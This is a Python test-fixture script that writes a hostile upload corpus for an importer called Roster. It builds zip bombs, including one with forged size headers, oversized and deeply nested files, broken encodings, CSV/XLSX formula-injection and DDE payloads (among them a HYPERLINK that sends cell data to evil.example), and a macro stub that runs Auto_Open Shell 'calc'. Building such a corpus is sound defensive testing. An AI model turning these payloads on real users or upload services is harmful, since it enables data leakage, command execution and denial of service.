#!/usr/bin/env python3
"""Writes Roster's hostile upload corpus into a folder (issue 15).

    scripts/hostile-corpus.py OUT_DIR [GROUP_ID]

Python's standard library only; nothing here is committed as a file, the
corpus is made at test time (tests/tests/it/hostile.rs runs this script). Each
file is a way an upload can try to exhaust or fool the process that reads it:
zip bombs (by ratio, by a lying size, by entry count), a huge shared-string
count, a cell at XFD1048576, a 50 MB CSV line with no newline, a million
columns, broken and mixed encodings, deeply nested JSON, huge JSON strings,
duplicate keys, spreadsheet formulas in every column, a macro workbook and an
encrypted (OLE compound) workbook. It prints one line per file: its name and
size in bytes.
"""

import io
import os
import random
import struct
import sys
import zipfile
import zlib

FULL = ["Name", "Nickname", "Email", "Single Sign-On ID", "Description", "Password",
        "Enabled", "Standard License", "Mobile License", "Tech Group ID"]
SHORT = ["Name", "Email", "Password"]
PASSWORD = "Plum-Orbit-7-Cactus!"
# What a spreadsheet program would run if a cell were written as a formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1", "=1+1"]
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def esc(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def col(n):
    """0 -> A, 16383 -> XFD."""
    name = ""
    n += 1
    while n:
        n, r = divmod(n - 1, 26)
        name = chr(65 + r) + name
    return name


def sheet_xml(rows):
    """Inline-string cells, `rows` as lists of text (None: no cell)."""
    out = ['<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>']
    for r, row in enumerate(rows, start=1):
        cells = "".join(
            f'<c r="{col(c)}{r}" t="inlineStr"><is><t>{esc(v)}</t></is></c>'
            for c, v in enumerate(row) if v is not None)
        out.append(f'<row r="{r}">{cells}</row>')
    out.append("</sheetData></worksheet>")
    return "".join(out)


def workbook(path, sheet, extra=(), macro=False, compress=zipfile.ZIP_DEFLATED):
    """A minimal xlsx: `sheet` is the first worksheet's XML (str or a writer function)."""
    main = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    types = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
             '<Default Extension="xml" ContentType="application/xml"/>'
             + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "")
             + f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
             f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SHEET_CT}"/></Types>')
    with zipfile.ZipFile(path, "w", compress) as z:
        z.writestr("[Content_Types].xml", types)
        z.writestr("_rels/.rels", f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                   f'xmlns:r="{REL}"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
        vba = f'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
                   + (vba if macro else "") + "</Relationships>")
        if callable(sheet):
            with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as part:
                sheet(part)
        else:
            z.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, data in extra:
            z.writestr(name, data)


def ordinary_rows(group, n=2, tag="x"):
    return [FULL] + [[f"Tech {tag}{i}", "", f"{tag}{i}@hostile.test", "", "", PASSWORD, "Yes", "Yes", "No", str(group)]
                     for i in range(n)]


def ratio_bomb(path):
    """One part of 256 MiB of spaces: about 250 KB packed (ratio ~1000)."""
    def write(part):
        part.write(sheet_xml(ordinary_rows(1))[:-len("</sheetData></worksheet>")].encode())
        block = b" " * (1 << 20)
        for _ in range(256):
            part.write(block)
        part.write(b"</sheetData></worksheet>")
    workbook(path, write)


def lying_bomb(path):
    """The ratio bomb whose zip headers declare the sheet 1 KB long."""
    ratio_bomb(path)
    data = bytearray(open(path, "rb").read())
    name = b"xl/worksheets/sheet1.xml"
    # Local header (PK\3\4) and central directory entry (PK\1\2): uncompressed size fields,
    # and the zip64 extra field that carries it for a part over 4 GiB or written with force_zip64.
    for sig, size_at, name_len_at, fixed in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        at = 0
        while (at := data.find(sig, at)) >= 0:
            n = struct.unpack_from("<H", data, at + name_len_at)[0]
            extra_len = struct.unpack_from("<H", data, at + name_len_at + 2)[0]
            if data[at + fixed:at + fixed + n] == name:
                if struct.unpack_from("<I", data, at + size_at)[0] != 0xFFFFFFFF:
                    struct.pack_into("<I", data, at + size_at, 1024)
                e = at + fixed + n
                end = e + extra_len
                while e + 4 <= end:
                    tag, size = struct.unpack_from("<HH", data, e)
                    if tag == 1 and size >= 8:
                        struct.pack_into("<Q", data, e + 4, 1024)
                    e += 4 + size
            at += 4
    open(path, "wb").write(bytes(data))


def entry_bomb(path):
    """20,000 parts of a few bytes each (Excel writes about 15)."""
    extra = [(f"xl/media/part{i}.xml", "<a/>") for i in range(20_000)]
    workbook(path, sheet_xml(ordinary_rows(1)), extra)


def shared_string_count(path):
    """A 2-billion `uniqueCount` in a tiny sharedStrings part."""
    sst = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2000000000" uniqueCount="2000000000"><si><t>Name</t></si></sst>'
    workbook(path, sheet_xml(ordinary_rows(1)), [("xl/sharedStrings.xml", sst)])


def huge_shared_string(path):
    """One shared string of 64 MiB (Excel's cell limit is 32,767 characters)."""
    head = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>'
    rows = ordinary_rows(1)
    xml = sheet_xml(rows).replace(f'<c r="A2" t="inlineStr"><is><t>{esc(rows[1][0])}</t></is></c>',
                                  '<c r="A2" t="s"><v>0</v></c>')
    buf = io.BytesIO()
    workbook(buf, xml)
    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as z:
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(head.encode())
            # Runs of one letter of random lengths: text that packs about 30 times,
            # under a ratio guard, as real reports of this did.
            rng = random.Random(15)
            for _ in range(64):
                block = bytearray()
                while len(block) < 1 << 20:
                    block += bytes([rng.randrange(97, 123)]) * rng.randrange(50, 150)
                part.write(block[:1 << 20])
            part.write(b"</t></si></sst>")
    open(path, "wb").write(buf.getvalue())


def far_cell(path, group):
    """An ordinary workbook with one more cell at XFD1048576."""
    xml = sheet_xml(ordinary_rows(group, 2, "far")).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData>')
    workbook(path, xml)


def xlsx_million_columns(path):
    """A header row of a million cells (XFD is the last of 16,384 columns; these go past it)."""
    def write(part):
        part.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">')
        for i in range(1_000_000):
            part.write(b'<c t="inlineStr"><is><t>Name</t></is></c>')
        part.write(b"</row></sheetData></worksheet>")
    workbook(path, write)


def macro_workbook(path, group):
    """An .xlsm: an ordinary sheet plus a VBA project that must never matter."""
    workbook(path, sheet_xml(ordinary_rows(group, 2, "macro")),
             [("xl/vbaProject.bin", b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"Attribute VB_Name = \"Module1\"\r\nSub Auto_Open()\r\nShell \"calc\"\r\nEnd Sub" * 10)],
             macro=True)


def encrypted_workbook(path):
    """A password-protected workbook: an OLE compound file holding EncryptionInfo and EncryptedPackage."""
    sector = 512
    header = bytearray(sector)
    header[0:8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)   # minor, major version 3, byte order, 512-byte sectors
    struct.pack_into("<H", header, 32, 6)                      # mini sector shift
    struct.pack_into("<I", header, 44, 1)                      # one FAT sector
    struct.pack_into("<I", header, 48, 1)                      # directory starts at sector 1
    struct.pack_into("<I", header, 56, 4096)                   # mini stream cutoff
    struct.pack_into("<I", header, 60, 0xFFFFFFFE)             # no mini FAT
    struct.pack_into("<I", header, 68, 0xFFFFFFFE)             # no DIFAT sectors
    struct.pack_into("<I", header, 76, 0)                      # FAT at sector 0
    for i in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * i, 0xFFFFFFFF)
    fat = bytearray(b"\xFF" * sector)
    struct.pack_into("<IIII", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE, 0xFFFFFFFE)

    def entry(name, kind, start, size, child=0xFFFFFFFF, right=0xFFFFFFFF):
        e = bytearray(128)
        raw = name.encode("utf-16-le") + b"\0\0"
        e[0:len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), kind, 1)
        struct.pack_into("<III", e, 68, 0xFFFFFFFF, right, child)
        struct.pack_into("<IQ", e, 116, start, size)
        return bytes(e)
    directory = (entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)
                 + entry("EncryptionInfo", 2, 2, 200, right=2)
                 + entry("EncryptedPackage", 2, 3, 400)
                 + bytes(128))
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\"/>"
    package = struct.pack("<Q", 4096) + os.urandom(sector - 8)
    body = header + fat + directory + info.ljust(sector, b"\0") + package
    open(path, "wb").write(body)


def csv_endless_line(path):
    """A header, then 50 MB with no newline and no delimiter."""
    with open(path, "wb") as f:
        f.write(",".join(FULL).encode() + b"\n")
        block = b"A" * (1 << 20)
        for _ in range(50):
            f.write(block)


def csv_million_columns(path):
    with open(path, "wb") as f:
        f.write(",".join(["Name"] * 1_000_000).encode() + b"\n")
        f.write(b"," * 999_999 + b"\n")


def csv_invalid_utf16(path):
    """A UTF-16 byte-order mark, then an unpaired surrogate and an odd byte count."""
    text = ",".join(SHORT) + "\r\nAna,ana@hostile.test," + PASSWORD + "\r\n"
    open(path, "wb").write(b"\xFF\xFE" + text.encode("utf-16-le") + b"\x00\xD8\x41\x00\x42")


def csv_mixed_encodings(path, group):
    """UTF-8 rows, then a Windows-1252 row (é as 0xE9) far past the first 64 KiB."""
    rows = [",".join(FULL)]
    for i in range(1500):
        rows.append(f"Zoë {i},,mixed{i}@hostile.test,,{'x' * 30},{PASSWORD},Yes,Yes,No,{group}")
    data = ("\n".join(rows) + "\n").encode("utf-8")
    data += f"Ren\xe9e,,renee@hostile.test,,,{PASSWORD},Yes,Yes,No,{group}\n".encode("cp1252")
    open(path, "wb").write(data)


def json_nested(path):
    """A million nested arrays."""
    open(path, "wb").write(b"[" * 1_000_000 + b"]" * 1_000_000)


def json_nested_cell(path, group):
    """An ordinary array whose Name is a value nested 100,000 deep."""
    name = '{"a":' * 100_000 + "1" + "}" * 100_000
    open(path, "w").write(f'[{{"name": {name}, "email": "deep@hostile.test", "password": "{PASSWORD}", '
                          f'"enabled": true, "standard_license": true, "mobile_license": false, "tech_group_id": {group}}}]')


def json_huge_strings(path, group):
    """Rows whose Name, then Description, are 64 MiB strings."""
    with open(path, "w") as f:
        f.write("[")
        for i, field in enumerate(["name", "description"]):
            f.write(f'{{"{field}": "')
            block = "abcdefgh" * (1 << 17)
            for _ in range(32):
                f.write(block)
            other = {"name": "Huge", "email": f"huge{i}@hostile.test", "password": PASSWORD, "enabled": True,
                     "standard_license": True, "mobile_license": False, "tech_group_id": group}
            other.pop(field, None)
            rest = ", ".join(f'"{k}": ' + ("true" if v is True else "false" if v is False else
                                           str(v) if isinstance(v, int) else f'"{v}"') for k, v in other.items())
            f.write(f'", {rest}}}' + ("," if i == 0 else ""))
        f.write("]")


def json_duplicate_keys(path, group):
    """One object naming Email twice (two spellings) and one naming it twice alike."""
    base = f'"name": "Dup", "password": "{PASSWORD}", "enabled": true, "standard_license": true, "mobile_license": false, "tech_group_id": {group}'
    open(path, "w").write(f'[{{{base}, "Email": "dup1@hostile.test", "email": "other1@hostile.test"}},'
                          f' {{{base}, "email": "dup2@hostile.test", "email": "other2@hostile.test"}}]')


def formula_rows(group, tag):
    """Every column of every row holds a formula; the last row is valid but for its formulas."""
    rows = [FULL]
    for f in FORMULAS:
        rows.append([f] * len(FULL))
    rows.append([FORMULAS[0], FORMULAS[1], f"{tag}@hostile.test", FORMULAS[2], FORMULAS[3], PASSWORD,
                 "Yes", "Yes", "No", str(group)])
    return rows


def csv_formulas(path, group):
    def quote(v):
        return '"' + v.replace('"', '""') + '"'
    open(path, "w", newline="").write("".join(",".join(quote(v) for v in r) + "\r\n" for r in formula_rows(group, "csv")))


def xlsx_formulas(path, group):
    workbook(path, sheet_xml(formula_rows(group, "xlsx")))


def main():
    out = sys.argv[1]
    group = int(sys.argv[2]) if len(sys.argv) > 2 else 1
    os.makedirs(out, exist_ok=True)
    cases = {
        "ratio-bomb.xlsx": ratio_bomb,
        "lying-bomb.xlsx": lying_bomb,
        "entry-bomb.xlsx": entry_bomb,
        "shared-string-count.xlsx": shared_string_count,
        "huge-shared-string.xlsx": huge_shared_string,
        "far-cell.xlsx": lambda p: far_cell(p, group),
        "million-columns.xlsx": xlsx_million_columns,
        "macro.xlsm": lambda p: macro_workbook(p, group),
        "encrypted.xlsx": encrypted_workbook,
        "endless-line.csv": csv_endless_line,
        "million-columns.csv": csv_million_columns,
        "invalid-utf16.csv": csv_invalid_utf16,
        "mixed-encodings.csv": lambda p: csv_mixed_encodings(p, group),
        "nested.json": json_nested,
        "nested-cell.json": lambda p: json_nested_cell(p, group),
        "huge-strings.json": lambda p: json_huge_strings(p, group),
        "duplicate-keys.json": lambda p: json_duplicate_keys(p, group),
        "formulas.csv": lambda p: csv_formulas(p, group),
        "formulas.xlsx": lambda p: xlsx_formulas(p, group),
    }
    only = set(sys.argv[3:])
    for name, make in cases.items():
        if only and name not in only:
            continue
        path = os.path.join(out, name)
        make(path)
        print(name, os.path.getsize(path))


if __name__ == "__main__":
    main()
